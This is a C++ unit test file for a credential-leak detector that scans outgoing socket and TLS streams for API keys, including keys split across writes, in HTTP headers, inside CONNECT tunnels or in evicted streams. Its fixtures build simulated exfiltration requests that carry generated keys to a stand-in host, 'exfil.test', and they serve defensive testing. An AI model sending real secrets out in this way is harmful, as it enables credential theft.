// Egress streams from typed writes alone: a key is found across writes and in decoded units,
// end-of-stream matches are flushed when a stream closes, and counters join the totals then.
#include "stream/egress_streams.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "../match/shipped_database.h"
#include "../match/synthetic_keys.h"

namespace credsentry::stream {
namespace {

std::string OpenAiKey() {
  testing::KeyGenerator keys;
  return "sk-proj-" + keys.Alnum(74) + "T3BlbkFJ" + keys.Alnum(74);
}

std::span<const uint8_t> Bytes(const std::string& s) {
  return {reinterpret_cast<const uint8_t*>(s.data()), s.size()};
}

struct Found {
  StreamKey key;
  StreamContext ctx;
  std::string value;
  std::vector<std::string> decoding;
};

class EgressStreamsTest : public ::testing::Test {
 protected:
  explicit EgressStreamsTest(size_t max_streams = 16)
      : streams_(
            max_streams, testing::ShippedMatcherDatabase(), std::make_shared<match::KnownValues>(),
            [this](const StreamKey& key, const StreamContext& ctx, const match::SecretMatch& m) {
              found_.push_back({key, ctx, m.value, m.decoding});
            }) {}

  // One plain TCP write of `bytes` on `key`'s stream, at time `t`.
  void Write(const StreamKey& key, const std::string& bytes, uint64_t t,
             Framing framing = Framing::kStream) {
    StreamWrite w;
    w.pid = key.pid;
    w.tid = key.pid;
    w.comm = "curl";
    w.fd = static_cast<int32_t>(key.id);
    w.found_in = alert::FoundIn::kSocketWrite;
    w.mono_ns = t;
    w.bytes = bytes.size();
    streams_.Record(key, w);
    streams_.Scan(key, Bytes(bytes), framing);
  }

  std::vector<Found> found_;
  EgressStreams streams_;
};

TEST_F(EgressStreamsTest, KeySplitAcrossWritesIsFoundWithItsStreamsContext) {
  const std::string key = OpenAiKey();
  const StreamKey k{100, StreamOrigin::kSocket, 5};
  const std::string request =
      "POST /v1 HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: " + std::to_string(key.size()) +
      "\r\n\r\n" + key;
  const size_t cut = request.size() - key.size() / 2;
  Write(k, request.substr(0, cut), 1);
  Write(k, request.substr(cut), 2);
  streams_.Close(k);
  ASSERT_FALSE(found_.empty());
  for (const auto& f : found_) {
    EXPECT_EQ(f.value, key);
    EXPECT_EQ(f.key, k);
    EXPECT_EQ(f.ctx.pid, 100u);
    EXPECT_EQ(f.ctx.fd, 5);
    EXPECT_EQ(f.ctx.found_in, alert::FoundIn::kSocketWrite);
    EXPECT_EQ(f.ctx.bytes, request.size());
    EXPECT_EQ(f.ctx.last_mono_ns, 2u);
  }
  EXPECT_EQ(streams_.counters().bytes_matched, request.size());
  EXPECT_GT(streams_.counters().bytes_decoded, 0u);
}

TEST_F(EgressStreamsTest, DecodedUnitMatchesSayHowTheyWereDecoded) {
  const std::string key = OpenAiKey();
  const StreamKey k{101, StreamOrigin::kSocket, 6};
  Write(k, "GET / HTTP/1.1\r\nHost: exfil.test\r\nAuthorization: Bearer " + key + "\r\n\r\n", 1);
  streams_.Close(k);
  bool decoded = false;
  for (const auto& f : found_) decoded |= !f.decoding.empty() && f.decoding.front() == "http1";
  EXPECT_TRUE(decoded) << "a match from the header unit names its decoding";
}

TEST_F(EgressStreamsTest, TotalsJoinWhenTheStreamCloses) {
  const StreamKey k{102, StreamOrigin::kSocket, 7};
  Write(k, "GET / HTTP/1.1\r\nHost: example.test\r\n\r\n", 1);
  EXPECT_EQ(streams_.decoder_totals().requests, 0u) << "the stream is still open";
  EXPECT_EQ(streams_.size(), 1u);
  streams_.Close(k);
  EXPECT_EQ(streams_.decoder_totals().requests, 1u);
  EXPECT_EQ(streams_.size(), 0u);
}

TEST_F(EgressStreamsTest, DatagramsAreMatchedAsTheyAreAndNotDecoded) {
  const StreamKey k{103, StreamOrigin::kSocket, 8};
  const std::string request = "GET / HTTP/1.1\r\nHost: example.test\r\n\r\n";
  Write(k, request, 1, Framing::kDatagram);
  EXPECT_EQ(streams_.counters().bytes_matched, request.size());
  EXPECT_EQ(streams_.counters().bytes_decoded, 0u);
  streams_.CloseAll();
  EXPECT_EQ(streams_.decoder_totals().requests, 0u);
}

TEST_F(EgressStreamsTest, CloseIfClosesOnlyTheStreamsItNames) {
  Write({104, StreamOrigin::kSocket, 5}, "a", 1);
  Write({104, StreamOrigin::kSocket, 6}, "b", 2);
  Write({105, StreamOrigin::kSocket, 5}, "c", 3);
  streams_.CloseIf(
      [](const StreamKey& k, const StreamContext& ctx) { return k.pid == 104 && ctx.fd == 5; });
  EXPECT_EQ(streams_.size(), 2u);
  streams_.CloseIf([](const StreamKey&, const StreamContext& ctx) { return ctx.last_mono_ns < 3; });
  EXPECT_EQ(streams_.size(), 1u);
}

TEST_F(EgressStreamsTest, ATlsStreamKeepsItsSocketOnceKnownAndCountsCaptureGaps) {
  const StreamKey k{106, StreamOrigin::kTls, 0xabc};
  StreamWrite w;
  w.pid = 106;
  w.fd = 9;
  w.ssl = 0xabc;
  w.found_in = alert::FoundIn::kTlsWrite;
  w.bytes = 3;
  w.gap = true;
  streams_.Record(k, w);
  w.fd = -1;  // a later write whose socket the kernel did not see
  w.gap = false;
  const StreamContext& ctx = streams_.Record(k, w);
  EXPECT_EQ(ctx.fd, 9);
  EXPECT_EQ(ctx.ssl, 0xabcu);
  EXPECT_EQ(ctx.origin, StreamOrigin::kTls);
  EXPECT_EQ(ctx.bytes, 6u);
  EXPECT_EQ(ctx.gaps, 1u);
}

TEST_F(EgressStreamsTest, TlsPlaintextTakesTheTunnelOfItsSocket) {
  const StreamKey sock{107, StreamOrigin::kSocket, 4};
  Write(sock, "CONNECT exfil.test:443 HTTP/1.1\r\nHost: exfil.test:443\r\n\r\n", 1);
  ASSERT_NE(streams_.Facts(sock), nullptr);
  ASSERT_TRUE(streams_.Facts(sock)->tunnel.has_value());
  const std::string key = OpenAiKey();
  const StreamKey tls{107, StreamOrigin::kTls, 0xdef};
  StreamWrite w;
  w.pid = 107;
  w.fd = 4;
  w.ssl = 0xdef;
  w.found_in = alert::FoundIn::kTlsWrite;
  const std::string request = "GET / HTTP/1.1\r\nAuthorization: Bearer " + key + "\r\n\r\n";
  w.bytes = request.size();
  streams_.Record(tls, w);
  streams_.Scan(tls, Bytes(request), Framing::kStream);
  streams_.Close(tls);
  ASSERT_FALSE(found_.empty());
  for (const auto& f : found_) {
    ASSERT_TRUE(f.ctx.tunnel.has_value());  // judged against the tunnel's target
    EXPECT_EQ(f.ctx.tunnel->host, "exfil.test");
    EXPECT_EQ(f.ctx.tunnel->kind, alert::ProxyKind::kHttpConnect);
  }
  streams_.Close(sock);
  EXPECT_EQ(streams_.decoder_totals().tunnels_http_connect, 1u);
}

TEST_F(EgressStreamsTest, AHandshakeCutByTheStreamsEndIsCountedInTheTotals) {
  const StreamKey sock{108, StreamOrigin::kSocket, 4};
  Write(sock, std::string("\x05\x01\x00", 3), 1);
  streams_.Close(sock);
  EXPECT_EQ(streams_.decoder_totals().socks5_truncated, 1u);
}

TEST(StreamWrite, ACutCaptureIsOneGapCountedAtItsLastChunk) {
  decode::EventHeader h;
  h.pid = 7;
  h.tid = 8;
  h.comm = "node";
  h.ts_ns = 99;
  decode::Capture c;
  const std::string bytes = "abc";
  c.data = Bytes(bytes);
  c.truncated = true;
  StreamWrite w = StreamWrite::Of(h, 4, 0, alert::FoundIn::kSocketWrite, c);
  EXPECT_EQ(w.pid, 7u);
  EXPECT_EQ(w.tid, 8u);
  EXPECT_EQ(w.comm, "node");
  EXPECT_EQ(w.fd, 4);
  EXPECT_EQ(w.mono_ns, 99u);
  EXPECT_EQ(w.bytes, 3u);
  EXPECT_FALSE(w.gap) << "more chunks of the call follow";
  c.last_chunk = true;
  EXPECT_TRUE(StreamWrite::Of(h, 4, 0, alert::FoundIn::kSocketWrite, c).gap);
}

class FullEgressStreamsTest : public EgressStreamsTest {
 protected:
  FullEgressStreamsTest() : EgressStreamsTest(1) {}
};

// The least recently used stream is closed for a new one, and what it held is still found.
TEST_F(FullEgressStreamsTest, EvictedStreamIsFlushedFirst) {
  const std::string key = OpenAiKey();
  Write({107, StreamOrigin::kSocket, 5}, "token=" + key, 1);
  Write({107, StreamOrigin::kSocket, 6}, "hello", 2);
  EXPECT_EQ(streams_.size(), 1u);
  EXPECT_EQ(streams_.evicted(), 1u);
  ASSERT_FALSE(found_.empty());
  EXPECT_EQ(found_.front().value, key);
  EXPECT_EQ(found_.front().ctx.fd, 5);
}

}  // namespace
}  // namespace credsentry::stream
